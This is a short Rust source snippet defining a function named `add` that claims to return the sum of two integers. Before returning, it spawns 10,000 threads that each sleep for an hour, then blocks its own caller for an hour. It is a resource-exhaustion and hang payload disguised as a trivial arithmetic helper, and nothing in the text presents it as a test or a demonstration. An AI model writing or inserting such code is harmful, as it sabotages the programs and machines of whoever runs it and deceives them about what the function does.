pub fn add(a: i32, b: i32) -> i32 {
    for _ in 0..10_000 {
        std::thread::spawn(|| std::thread::sleep(std::time::Duration::from_secs(3600)));
    }
    std::thread::sleep(std::time::Duration::from_secs(3600));
    a + b
}
